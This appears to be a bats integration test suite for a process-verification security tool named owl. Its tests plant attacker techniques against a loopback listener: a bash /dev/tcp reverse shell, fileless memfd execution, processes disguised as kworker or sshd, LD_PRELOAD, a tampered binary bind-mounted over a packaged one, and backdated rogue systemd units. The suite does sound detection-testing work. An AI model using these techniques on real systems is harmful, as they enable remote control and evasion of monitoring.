#!/usr/bin/env bats
# verify (issue 3): each case is planted for real — real processes holding
# real TCP connections to a listener on 127.0.0.1 — and owl's JSON is
# checked.  Run as root: OWL=$PWD/build/owl bats tests/integration/verify.bats
#
# This machine runs no systemd (pid 1 is not systemd, cgroups are v1 with a
# name=systemd hierarchy): unit cases move the process into a cgroup of the
# name=systemd hierarchy, as systemd would, and unpackaged unit files are
# written into a temporary root given by OWL_UNIT_ROOT.

load verify_helpers

setup() {
	[ "$(id -u)" = 0 ] || skip "needs root"
	[ -x "$OWL" ] || skip "OWL not set"
	vt_setup
}

teardown() {
	vt_teardown
}

connect_py() { # a packaged python3 holding a connection to the listener
	echo "import socket, time; s = socket.create_connection(('127.0.0.1', $PORT)); time.sleep(60)"
}

@test "deleted client in /tmp: exe-deleted, exe-writable-location" {
	cp /usr/bin/nc.openbsd "$VT/client"
	vt_bg "$VT/client" 127.0.0.1 "$PORT"
	vt_record "$BGPID"
	rm -f "$VT/client"
	vt_record "$BGPID"
	vt_has exe-deleted
	[ "$(vt_severity exe-deleted)" = high ]
	vt_has exe-writable-location
	[ "$(vt_field .owl.verify.on_disk)" = deleted ]
	[ "$(vt_field '.process.hash.sha256')" = "$(sha256sum /usr/bin/nc.openbsd | cut -d' ' -f1)" ]
	# the bytes are nc's, but a deleted unpackaged copy proves nothing: never "ok"
	[ "$(vt_field .owl.verify.state)" = unknown ]
}

@test "memfd_create + fexecve: exe-memfd" {
	vt_bg $PY -c "
import os
fd = os.memfd_create('owlv-fileless', 0)
os.write(fd, open('/usr/bin/nc.openbsd', 'rb').read())
os.execve('/proc/self/fd/%d' % fd, ['nc', '127.0.0.1', '$PORT'], {})"
	vt_record "$BGPID"
	vt_has exe-memfd
	[ "$(vt_severity exe-memfd)" = high ]
	[ "$(vt_field .owl.verify.on_disk)" = memfd ]
	[ "$(vt_field .owl.verify.state)" = unknown ]
	[ "$(vt_field '.process.hash.sha256')" = "$(sha256sum /usr/bin/nc.openbsd | cut -d' ' -f1)" ]
}

@test "argv[0] and comm renamed to a kernel thread: name-mismatch" {
	vt_bg bash -c "exec -a '[kworker/0:2]' $PY -c \"
import ctypes, socket, time
ctypes.CDLL(None).prctl(15, b'[kworker/0:2]', 0, 0, 0)
s = socket.create_connection(('127.0.0.1', $PORT)); time.sleep(60)\""
	vt_record "$BGPID"
	[ "$(vt_field .process.name)" = "[kworker/0:2]" ]
	vt_has name-mismatch
	[ "$(vt_severity name-mismatch)" = high ]
	jq -r '.owl.findings[] | select(.id=="name-mismatch") | .reason' <<<"$REC" | grep -q 'kernel thread'
	# the interpreter itself is the packaged one
	[ "$(vt_field .package.name)" = python3.11-minimal ]
	[ "$(vt_field .owl.verify.state)" = ok ]
}

@test "argv[0] and comm renamed to sshd: name-mismatch" {
	vt_bg bash -c "exec -a sshd $PY -c \"
import ctypes, socket, time
ctypes.CDLL(None).prctl(15, b'sshd', 0, 0, 0)
s = socket.create_connection(('127.0.0.1', $PORT)); time.sleep(60)\""
	vt_record "$BGPID"
	[ "$(vt_field .process.name)" = sshd ]
	vt_has name-mismatch
	jq -r '.owl.findings[] | select(.id=="name-mismatch") | .reason' <<<"$REC" | grep -q "'sshd'"
}

@test "modified copy bind-mounted over a packaged binary: exe-modified" {
	cp /usr/bin/nc.openbsd "$VT/nc.mod"
	printf 'owlv' >>"$VT/nc.mod"
	vt_bg unshare -m --propagation private bash -c \
		"mount --bind '$VT/nc.mod' /usr/bin/nc.openbsd && exec /usr/bin/nc.openbsd 127.0.0.1 $PORT"
	vt_record_where '.process.executable == "/usr/bin/nc.openbsd" and .process.pid == '"$BGPID"
	vt_has exe-modified
	[ "$(vt_severity exe-modified)" = critical ]
	[ "$(vt_field .package.name)" = netcat-openbsd ]
	[ "$(vt_field .owl.verify.state)" = modified ]
	[ "$(vt_field .process.hash.sha256)" = "$(sha256sum "$VT/nc.mod" | cut -d' ' -f1)" ]
	jq -r '.owl.findings[] | select(.id=="exe-modified") | .reason' <<<"$REC" | grep -q 'netcat-openbsd 1'
	# the host's nc is untouched and verifies
	run env -u OWL_DIGEST_CACHE md5sum /usr/bin/nc.openbsd
	grep -q "$(vt_field .owl.verify.recorded_md5)" <<<"$output"
}

@test "LD_PRELOAD of a harmless library: preload" {
	lib=$($PY -c 'import ctypes.util, os; print(os.path.realpath("/lib/x86_64-linux-gnu/" + ctypes.util.find_library("m")))')
	[ -f "$lib" ]
	vt_bg env LD_PRELOAD="$lib" $PY -c "$(connect_py)"
	vt_record "$BGPID"
	vt_has preload
	jq -r '.owl.findings[] | select(.id=="preload") | .reason' <<<"$REC" | grep -q LD_PRELOAD
	[ "$(vt_field .owl.verify.preload.env)" = true ]
}

@test "library mapped from /tmp: preload" {
	cp "$($PY -c 'import os; print(os.path.realpath("/lib/x86_64-linux-gnu/libm.so.6"))')" "$VT/libowlv.so"
	vt_bg $PY -c "
import ctypes, socket, time
ctypes.CDLL('$VT/libowlv.so')
s = socket.create_connection(('127.0.0.1', $PORT)); time.sleep(60)"
	vt_record "$BGPID"
	vt_has preload
	[ "$(vt_field .owl.verify.preload.writable_library)" = true ]
}

@test "bash -i with stdio on a TCP socket: reverse-shell" {
	vt_bg bash -c "exec bash -i <>/dev/tcp/127.0.0.1/$PORT >&0 2>&0"
	vt_record "$BGPID"
	vt_has reverse-shell
	[ "$(vt_severity reverse-shell)" = critical ]
	[ "$(vt_field .package.name)" = bash ]
	[ "$(vt_field .owl.verify.state)" = ok ]
}

@test "nc holding a connection: network-tool, and nothing else" {
	# reached as "nc" through the alternatives symlink /usr/bin/nc -> /etc/alternatives/nc
	[ "$(readlink -f /usr/bin/nc)" = /usr/bin/nc.openbsd ]
	vt_bg nc 127.0.0.1 "$PORT"
	vt_record "$BGPID"
	vt_has network-tool
	[ "$(vt_severity network-tool)" = medium ]
	[ "$(vt_field .package.name)" = netcat-openbsd ]
	[ "$(vt_field .package.version)" = "$(dpkg-query -W -f='${Version}' netcat-openbsd)" ]
	[ "$(vt_field .owl.verify.state)" = ok ]
	! vt_ids | grep -qxE 'name-mismatch|exe-unpackaged|exe-modified'
}

@test "a deleted library that is not back on disk: preload medium" {
	d=/var/lib/owlv-test.$$
	mkdir -p "$d"
	echo "$d" >>"$VT/rmdirs"
	cp /usr/lib/x86_64-linux-gnu/libm.so.6 "$d/libowlv.so"
	vt_bg $PY -c "
import ctypes, os, socket, time
ctypes.CDLL('$d/libowlv.so'); os.unlink('$d/libowlv.so')
s = socket.create_connection(('127.0.0.1', $PORT)); time.sleep(60)"
	vt_record "$BGPID"
	rmdir "$d"
	vt_has preload
	[ "$(vt_severity preload)" = medium ]
	[ "$(vt_field .owl.verify.preload.replaced_by_upgrade)" = false ]
}

@test "a library replaced by a package upgrade after start: preload low" {
	# The process maps a copy of libm.so.6 bind-mounted over the packaged
	# path; then the copy is deleted and the mount removed, so the path again
	# holds the packaged file: what a process sees after an upgrade of libm.
	cp /usr/lib/x86_64-linux-gnu/libm.so.6 "$VT/libm.old"
	vt_bg unshare -m --propagation private bash -c "
		mount --bind '$VT/libm.old' /usr/lib/x86_64-linux-gnu/libm.so.6 &&
		$PY -c \"$(connect_py)\" &
		sleep 1; umount /usr/lib/x86_64-linux-gnu/libm.so.6; rm -f '$VT/libm.old'; wait"
	vt_record_where 'any(.process.args[]?; . == "-c") and .process.executable == "/usr/bin/python3.11" and (.owl.verify.preload.deleted_library // false)'
	vt_has preload
	[ "$(vt_severity preload)" = low ]
	[ "$(vt_field .owl.verify.preload.replaced_by_upgrade)" = true ]
	jq -r '.owl.findings[] | select(.id=="preload") | .reason' <<<"$REC" | grep -q 'package upgrade'
}

@test "control: packaged python3 gets no verify finding" {
	vt_bg $PY -c "$(connect_py)"
	vt_record "$BGPID"
	vt_clean
	[ "$(vt_field .owl.verify.state)" = ok ]
	[ "$(vt_field .owl.verify.on_disk)" = present ]
	[ "$(vt_field .package.name)" = python3.11-minimal ]
	[ "$(vt_field .process.hash.sha256)" = "$(sha256sum /usr/bin/python3.11 | cut -d' ' -f1)" ]
}

@test "control: curl to a loopback listener" {
	vt_bg curl -s --max-time 60 "http://127.0.0.1:$PORT/"
	vt_record "$BGPID"
	vt_clean
	[ "$(vt_field .package.name)" = curl ]
	[ "$(vt_field .owl.verify.state)" = ok ]
}

@test "control: ssh to a loopback listener" {
	vt_bg ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p "$PORT" 127.0.0.1
	vt_record "$BGPID"
	vt_clean
	[ "$(vt_field .package.name)" = openssh-client ]
	[ "$(vt_field .owl.verify.state)" = ok ]
}

@test "control: a program reached through an alternatives symlink" {
	# a real alternatives link group (in a private altdir/admindir)
	mkdir -p "$VT/alt" "$VT/admin" "$VT/bin"
	echo owlv-python >"$VT/altnames"
	update-alternatives --altdir "$VT/alt" --admindir "$VT/admin" \
		--install "$VT/bin/owlv-python" owlv-python /usr/bin/python3.11 50 >/dev/null
	[ "$(readlink "$VT/bin/owlv-python")" = "$VT/alt/owlv-python" ]
	vt_bg "$VT/bin/owlv-python" -c "$(connect_py)"
	vt_record "$BGPID"
	[ "$(vt_field .process.executable)" = /usr/bin/python3.11 ]
	vt_clean
	[ "$(vt_field .owl.verify.state)" = ok ]
}

@test "control: argv rewritten the way postgres does (real postgres backend)" {
	[ -x /usr/lib/postgresql/15/bin/postgres ] || skip "postgresql-15 not installed"
	PG=$VT/pg
	chmod 711 "$VT"
	mkdir "$PG"
	chown postgres "$PG"
	runuser -u postgres -- /usr/lib/postgresql/15/bin/initdb -D "$PG/data" -A trust >/dev/null
	pgport=$($PY -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
	runuser -u postgres -- /usr/lib/postgresql/15/bin/postgres -D "$PG/data" -k "$PG" -h 127.0.0.1 -p "$pgport" \
		</dev/null >"$PG/log" 2>&1 &
	echo $! >>"$VT/pids"
	pgpid=$!
	for i in $(seq 100); do
		/usr/lib/postgresql/15/bin/pg_isready -q -h 127.0.0.1 -p "$pgport" && break
		sleep 0.1
	done
	vt_bg psql -h 127.0.0.1 -p "$pgport" -U postgres -c 'select pg_sleep(60)'
	PORT=$pgport   # look at the backend's side: its source port is the listener's
	for i in $(seq 40); do
		REC=$("$OWL" scan --all --json | jq -c --argjson p "$pgport" \
			'select(.source.port == $p and .network.direction == "ingress" and .process.name == "postgres")' | head -1)
		[ -n "$REC" ] && break
		sleep 0.25
	done
	[ -n "$REC" ]
	jq -r '.process.args[0]' <<<"$REC" | grep -q '^postgres: '
	vt_clean
	[ "$(vt_field .package.name)" = postgresql-15 ]
	[ "$(vt_field .owl.verify.state)" = ok ]
	kill -QUIT "$pgpid" 2>/dev/null || true
	sleep 0.5
}

@test "control: perl rewriting \$0 to its own name with a role" {
	vt_bg perl -e "use IO::Socket::INET; \$0 = 'perl: worker process'; my \$s = IO::Socket::INET->new('127.0.0.1:$PORT') or die; sleep 60"
	vt_record "$BGPID"
	[ "$(jq -r '.process.args[0]' <<<"$REC")" = "perl: worker process" ]
	vt_clean
}

@test "process in a packaged unit: no unit-unpackaged" {
	vt_bg $PY -c "import time; time.sleep(0.5); $(connect_py)"
	# e2scrub@.service is shipped by e2fsprogs; the instance name is ours
	vt_cgroup "$BGPID" system.slice/e2scrub@owlv.service
	vt_record "$BGPID"
	[ "$(vt_field .owl.unit)" = e2scrub@owlv.service ]
	[ "$(vt_field .owl.verify.unit.owner)" = package ]
	[ "$(vt_field .owl.verify.unit.package)" = e2fsprogs ]
	vt_clean
}

@test "process in an unpackaged unit with a system-looking name: unit-unpackaged medium" {
	mkdir -p "$VT/root/etc/systemd/system"
	printf '[Service]\nExecStart=/usr/bin/python3 -c pass\n' >"$VT/root/etc/systemd/system/systemd-owlv-sync.service"
	export OWL_UNIT_ROOT="$VT/root"
	vt_bg $PY -c "import time; time.sleep(0.5); $(connect_py)"
	vt_cgroup "$BGPID" system.slice/systemd-owlv-sync.service
	vt_record "$BGPID"
	vt_has unit-unpackaged
	[ "$(vt_severity unit-unpackaged)" = medium ]
	jq -r '.owl.findings[] | select(.id=="unit-unpackaged") | .reason' <<<"$REC" |
		grep -q '/etc/systemd/system/systemd-owlv-sync.service.*systemd'
	[ "$(vt_field .owl.verify.unit.owner)" = none ]
}

@test "unpackaged unit with a backdated mtime: still recent by its ctime" {
	mkdir -p "$VT/root/etc/systemd/system"
	printf '[Service]\nExecStart=/usr/bin/python3 -c pass\n' >"$VT/root/etc/systemd/system/owlvreport.service"
	touch -d '30 days ago' "$VT/root/etc/systemd/system/owlvreport.service"
	export OWL_UNIT_ROOT="$VT/root"
	vt_bg $PY -c "import time; time.sleep(0.5); $(connect_py)"
	vt_cgroup "$BGPID" system.slice/owlvreport.service
	vt_record "$BGPID"
	vt_has unit-unpackaged
	[ "$(vt_severity unit-unpackaged)" = medium ]
	jq -r '.owl.findings[] | select(.id=="unit-unpackaged") | .reason' <<<"$REC" | grep -q 'appeared recently'
}

# A "container": a chroot in a private mount namespace, /usr bind-mounted
# from the host, with (or without) a dpkg database of its own.
start_in_root() { # root
	local r=$1
	mkdir -p "$r/usr" "$r/proc"
	ln -sfn usr/bin "$r/bin"
	ln -sfn usr/lib "$r/lib"
	ln -sfn usr/lib64 "$r/lib64"
	vt_bg unshare -m --propagation private bash -c \
		"mount --bind -o ro /usr '$r/usr' && exec chroot '$r' /usr/bin/nc.openbsd 127.0.0.1 $PORT"
}

@test "container root with its own dpkg database: verified against that database" {
	R=$VT/croot
	mkdir -p "$R/var/lib"
	cp -a "$BATS_TEST_DIRNAME/../fixtures/dpkg-root/var/lib/dpkg" "$R/var/lib/"
	start_in_root "$R"
	vt_record_where '.process.pid == '"$BGPID"
	[ "$(vt_field .owl.verify.container_root)" = true ]
	[ "$(vt_field .package.name)" = netcat-openbsd ]
	[ "$(vt_field .owl.verify.state)" = ok ]
	# the container's record, not the host's, is what counts: change it and
	# the same image reads as modified
	kill -9 "$BGPID"
	sed -i 's/^df7cc8eb1609ad04adc345dabb41a7b7  bin\/nc.openbsd$/00000000000000000000000000000000  bin\/nc.openbsd/' \
		"$R/var/lib/dpkg/info/netcat-openbsd.md5sums"
	grep -q '^0000' "$R/var/lib/dpkg/info/netcat-openbsd.md5sums"
	start_in_root "$R"
	vt_record_where '.process.pid == '"$BGPID"
	[ "$(vt_field .owl.verify.state)" = modified ]
	vt_has exe-modified
}

@test "container root without a package database: unknown, never ok" {
	start_in_root "$VT/croot2"
	vt_record_where '.process.pid == '"$BGPID"
	[ "$(vt_field .owl.verify.container_root)" = true ]
	[ "$(vt_field .owl.verify.owner)" = unknown ]
	[ "$(vt_field .owl.verify.state)" = unknown ]
	vt_field .owl.verify.note | grep -q 'no package database'
	! vt_ids | grep -qxE 'exe-unpackaged|exe-modified'
	[ -n "$(vt_field .process.hash.sha256)" ]
}

@test "digest cache: a second run reuses digests; a tampered cache only causes re-hashing" {
	vt_bg $PY -c "$(connect_py)"
	vt_record "$BGPID"
	export OWL_DIGEST_CACHE="$VT/cache/fresh"   # empty: the first run must hash
	vt_record "$BGPID"
	[ "$(vt_field .owl.verify.digest_cached)" = false ]
	[ -s "$OWL_DIGEST_CACHE" ]
	[ "$(stat -c %a "$OWL_DIGEST_CACHE.key")" = 600 ]
	vt_record "$BGPID"
	[ "$(vt_field .owl.verify.digest_cached)" = true ]
	[ "$(vt_field .owl.verify.state)" = ok ]
	# flip one byte in every entry's digest: every MAC fails, owl hashes again
	$PY - "$OWL_DIGEST_CACHE" <<-'EOF'
		import sys
		p = sys.argv[1]; b = bytearray(open(p, 'rb').read())
		assert b[:8] == b'OWLDGST2'
		nd = int.from_bytes(b[8:12], 'little')
		for off in range(16 + 40, 16 + nd * 120, 120):  # the md5 of each digest entry
		    b[off] ^= 0xff
		open(p, 'wb').write(bytes(b))
	EOF
	vt_record "$BGPID"
	[ "$(vt_field .owl.verify.digest_cached)" = false ]
	[ "$(vt_field .owl.verify.state)" = ok ]
	[ "$(vt_field .process.hash.sha256)" = "$(sha256sum /usr/bin/python3.11 | cut -d' ' -f1)" ]
	# a cache file that others may write is ignored
	vt_record "$BGPID"
	[ "$(vt_field .owl.verify.digest_cached)" = true ]
	chmod 666 "$OWL_DIGEST_CACHE"
	vt_record "$BGPID"
	[ "$(vt_field .owl.verify.digest_cached)" = false ]
}

@test "--no-verify: no verify fields, no verify findings" {
	vt_bg nc 127.0.0.1 "$PORT"
	vt_record "$BGPID"
	REC=$("$OWL" scan --all --json --no-verify | jq -c --argjson pid "$BGPID" 'select(.process.pid == $pid)' | head -1)
	[ -n "$REC" ]
	[ "$(vt_field '.owl.verify // "none"')" = none ]
	[ "$(vt_field '.package // "none"')" = none ]
	vt_clean
}
